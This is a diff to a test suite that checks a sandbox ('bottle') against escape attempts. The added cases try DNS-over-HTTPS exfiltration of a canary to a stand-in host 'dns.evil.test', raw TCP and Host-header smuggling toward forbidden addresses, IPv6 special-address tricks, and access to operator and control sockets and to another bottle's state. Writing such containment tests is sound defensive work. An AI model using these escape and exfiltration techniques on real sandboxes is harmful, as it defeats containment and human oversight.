@@ -1,7 +1,9 @@
-import { readFile } from 'node:fs/promises';
+import { readFile, stat } from 'node:fs/promises';
+import { join } from 'node:path';
 
-import { beforeAll, describe, expect, test } from 'vitest';
+import { beforeAll, describe, expect, inject, test } from 'vitest';
 
+import { run } from '../packages/core/src/node/index.ts';
 import type { Attempt } from './support/bottle/escape-case.ts';
 import { ESCAPE_BACKENDS } from './support/bottle/escape-backends.ts';
 import { escapeStage } from './support/bottle/escape-stage.ts';
@@ -16,6 +18,7 @@ import {
   HOST_PORT,
   LOOPBACK_PORT,
   METADATA,
+  OPERATOR_SOCKET,
   PRIVATE,
   PUBLIC_RESOLVER,
 } from './support/bottle/internet.ts';
@@ -112,8 +115,15 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
           { do: 'resolve', name: 'evil.test' },
           proxied(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
           direct(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
+          proxied(`https://dns.evil.test/dns-query?name=${canary}`),
+          direct(`https://dns.evil.test/dns-query?name=${canary}`),
+          tcp(PUBLIC_RESOLVER, 443, canary),
+          tcp(FORBIDDEN, 80, canary),
+          tcp(FORBIDDEN, 443, ''),
+          tcp(FORBIDDEN, 443, '\x16\x03\x01\x02\x00\x01'),
+          tcp(FORBIDDEN, 80, 'GET / HTTP/1.1\r\nHost: allowed.test\r\n'),
         ],
-        ['no-route', 'unknown-address', 'no-server-name'],
+        ['no-route', 'unknown-address', 'no-server-name', 'bad-request', 'plain-http'],
       );
       await escape.asked(/evil|public/, 0);
     });
@@ -146,6 +156,15 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
       await escape.refuses(
         [FORBIDDEN_V6, 'fd12::1', '64:ff9b::7f00:1'].map((address) => tcp(address, 80)),
         ['unknown-address', 'special-address', 'private-address'],
+      );
+      await escape.refuses(
+        [
+          { do: 'scoped', address: 'fe80::1', port: 80, send: get('allowed.test') },
+          tcp('::ffff:127.0.0.1', 80),
+          tcp('0.0.0.0', 80),
+          tcp('::', 80),
+        ],
+        ['special-address'],
       );
       await escape.refuses(
         [tcp(FORBIDDEN_V6, 22), tcp('::1', LOOPBACK_PORT), { do: 'udp', address: FORBIDDEN_V6, port: 443 }],
@@ -235,10 +254,15 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
           ...sockets.map((path) => ({ do: 'unix', path })),
           { do: 'unix', path: ABSTRACT_SOCKET, abstract: true },
           { do: 'unix', path: '/tmp/.X11-unix/X0', abstract: true },
+          { do: 'unix', path: join(stage.folder, OPERATOR_SOCKET) },
+          { do: 'unix', path: join(escape.opened.state, 'control.sock') },
         ],
         [],
         [],
       );
+      const [found] = await escape.attack([{ do: 'environment' }]);
+      for (const name of ['SSH_AUTH_SOCK', 'DBUS_SESSION_BUS_ADDRESS', 'DISPLAY', 'DOCKER_HOST', 'ESCAPE_CANARY'])
+        expect(found?.['environment']).not.toHaveProperty(name);
     });
 
     test('E15: another bottle', async () => {
@@ -251,6 +275,8 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
           tcp('127.0.0.1', 5555, ''),
           { do: 'unix', path: 'decant-escape-other', abstract: true },
           { do: 'read', path: other.opened.state },
+          { do: 'read', path: `${other.opened.state}.jsonl` },
+          { do: 'unix', path: join(other.opened.state, 'control.sock') },
         ],
         [],
         [],
@@ -294,6 +320,41 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
       }
     });
 
+    test('E16: what is kept and shown of a bottle on the host', async () => {
+      // One process has it in its command line on purpose; no other may.
+      const { stdout } = await run('ps', ['-eo', 'args', '--no-headers'], { timeoutMs: 10_000 });
+      const shown = stdout
+        .toString('utf8')
+        .split('\n')
+        .filter((line) => line.includes(canary));
+      expect(shown.map((line) => line.slice(0, 12))).toEqual(['sh -c sleep ']);
+      const kept = await run('grep', ['-rlI', canary, stage.directory], { okCodes: [0, 1], timeoutMs: 10_000 });
+      expect(kept.stdout.toString('utf8')).toBe('');
+      if (backend === 'docker') {
+        const env = { ...process.env, DOCKER_HOST: inject('dockerHost')! };
+        const list = await run('docker', ['ps', '-aq', '--filter', 'label=dev.decant.bottle'], {
+          env,
+          timeoutMs: 10_000,
+        });
+        const ids = list.stdout.toString('utf8').split('\n').filter(Boolean);
+        expect(ids.length).toBeGreaterThan(1);
+        const told = await run('docker', ['inspect', ...ids], { env, timeoutMs: 10_000 });
+        expect(told.stdout.toString('utf8')).not.toContain(canary);
+      }
+    });
+
+    test('E16: nothing is open that was not given, and no memory is written to a disk', async () => {
+      for (const user of ['root', 'agent']) {
+        const [open, crashed] = await escape.attack([{ do: 'descriptors' }, { do: 'crash' }], user);
+        const own = Object.entries((open?.['descriptors'] ?? {}) as Record<string, string>);
+        expect(new Set(own.map(([name]) => name.split('/')[1]))).toEqual(new Set(['0', '1', '2']));
+        for (const [, target] of own) expect(target).toMatch(/^pipe:/);
+        expect(crashed).toMatchObject({ signal: 11, dumped: false, limit: 0 });
+      }
+      for (const pid of escape.opened.processIds)
+        expect(await readFile(`/proc/${pid}/limits`, 'latin1')).toMatch(/^Max core file size\s+[01]\s+[01]\s/m);
+    });
+
     test('E22: the authority of the bottle', async () => {
       for (const user of ['root', 'agent']) {
         const [keys] = await escape.attack(
@@ -322,6 +383,27 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
         SSL_CERT_FILE: '/tmp/other.pem',
       });
       expect(result?.detail).toContain('CERTIFICATE_VERIFY_FAILED');
+      // What it signs is for the one name that was asked for, or the address, and never for more.
+      const leaf = (name?: string) => ({
+        do: 'leaf',
+        address: FORBIDDEN,
+        port: 443,
+        ...(name === undefined ? {} : { name }),
+      });
+      const [named, bare, wild] = await escape.attack([leaf('evil.test'), leaf(), leaf('*.wild.test')]);
+      expect(named?.['names']).toEqual([['DNS', 'evil.test']]);
+      expect(bare?.['names'] ?? [['IP Address', FORBIDDEN]]).toEqual([['IP Address', FORBIDDEN]]);
+      expect(wild).toMatchObject({ error: 'TLS', detail: expect.stringMatching(/alert/i) });
+      // And it is no more when its bottle is.
+      const first = await stage.open('reused');
+      const read = { do: 'read', path: '/etc/decant/ca.pem' };
+      const [before] = await first.attack([read]);
+      await stage.world.stop(first.opened.slug);
+      const second = await stage.open('reused');
+      expect(second.opened.slug).toBe(first.opened.slug);
+      const [after] = await second.attack([read]);
+      expect(after?.received).not.toBe(before?.received);
+      await stage.world.stop(second.opened.slug);
     });
 
     test('E30: nothing from within reaches the sidecar', async () => {
@@ -340,6 +422,14 @@ describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usabl
         const environ = await readFile(`/proc/${pid}/environ`, 'latin1');
         expect(environ).not.toMatch(/NODE_OPTIONS=-|own\.js|nowhere|evil/);
       }
+      const [sidecar = 0] = escape.opened.processIds;
+      const words = (await readFile(`/proc/${sidecar}/environ`, 'latin1')).split('\0').filter(Boolean);
+      expect(words.filter((word) => !word.startsWith('NODE_CHANNEL_'))).toEqual([]);
+      // What it runs is root's and nobody else's to write.
+      const argv = (await readFile(`/proc/${sidecar}/cmdline`, 'latin1')).split('\0');
+      const programs = argv.filter((word) => word.startsWith('/'));
+      expect(programs).toHaveLength(2);
+      for (const path of programs) expect((await stat(path)).mode & 0o022, path).toBe(0);
       await escape.works([proxied('https://allowed.test/')]);
     });
 
